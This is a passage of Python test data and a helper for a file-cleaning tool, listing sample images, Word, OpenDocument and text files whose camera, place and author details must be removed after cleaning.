    Sample("a PNG of few colours", "a.png", lambda: saved(picture(mode="P"), "PNG"), PNG),
    Sample("a PNG of 256 colours", "a.png", lambda: saved(picture(mode="P"), "PNG", transparency=0), PNG),
    Sample("a PNG in black and white", "a.png", lambda: saved(picture(mode="1"), "PNG"), PNG),
    Sample("a PNG of sixteen bits", "a.png", lambda: saved(Image.new("I;16", (30, 30), 40_000), "PNG"), PNG),
    Sample("a PNG called JPG", "a.jpg", lambda: saved(picture(), "PNG"), PNG),
    Sample("a WebP", "a.webp", lambda: saved(picture(), "WEBP", exif=exif_with_place()), WEBP, (b"ExampleCamera",)),
    Sample("a moving WebP", "a.webp", lambda: moving("WEBP"), WEBP, (b"ANIM",)),
    Sample("a moving GIF", "a.gif", lambda: moving("GIF"), PNG),
    Sample("a BMP", "a.bmp", lambda: saved(picture(), "BMP"), PNG),
    Sample("a Word document", "a.docx", docx, DOCX, (REAL,)),
    Sample(
        "a Word document with much in it",
        "a.docx",
        docx_of_much,
        DOCX,
        (REAL, b"ExampleCamera", b"Taken at home", b"private"),
    ),
    Sample("an OpenDocument text", "a.odt", odt, ODT, (REAL,)),
    Sample(
        "an OpenDocument text with a link",
        "a.odt",
        lambda: odt('<text:a xlink:href="https://www.example.org">x</text:a>'),
        ODT,
        (REAL,),
    ),
    Sample(
        "an OpenDocument text with a link in itself",
        "a.odt",
        lambda: odt('<text:a xlink:href="#1. Notes: more|outline">x</text:a>'),
        ODT,
    ),
    Sample(
        "an OpenDocument text with a photograph",
        "a.odt",
        lambda: odt(
            '<draw:image xlink:href="Pictures/1.jpg"/>',
            extra={
                "Pictures/1.jpg": phone_photo(),
                "Thumbnails/thumbnail.png": png_with_notes(),
                "Configurations2/menubar/a.xml": b"<a/>",
            },
        ),
        ODT,
        (REAL, b"ExampleCamera"),
    ),
    Sample("a text", "notes.txt", lambda: "Café at 5 < 6 o’clock, £3 & 10 % off\n".encode(), TEXT),
    Sample(
        "a text with a mark",
        "notes.txt",
        lambda: b"\xef\xbb\xbfDear council,\r\nhello\r\n",
        TEXT,
        (b"\xef\xbb\xbf", b"\r"),
    ),
    Sample("a text in Urdu", "notes.txt", lambda: "السلام علیکم\n".encode(), TEXT),
]
"""Kept as they are, but for what tells of who made them and where."""


def unpacked(content: bytes) -> bytes:
    """Return a file with everything in it unpacked, to look for what must be gone."""
    found = [content]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            found += [archive.read(name) for name in archive.namelist()]
            found += [name.encode() for name in archive.namelist()]
    if content.startswith(b"%PDF"):
        with pikepdf.open(io.BytesIO(content)) as made:
            for item in made.objects:
                found.append(repr(item).encode())
                if isinstance(item, Stream):
                    found.append(item.read_raw_bytes())
                    if item.get("/Filter") in (None, Name.FlateDecode):
                        found.append(item.read_bytes())
    return b"\n".join(found)
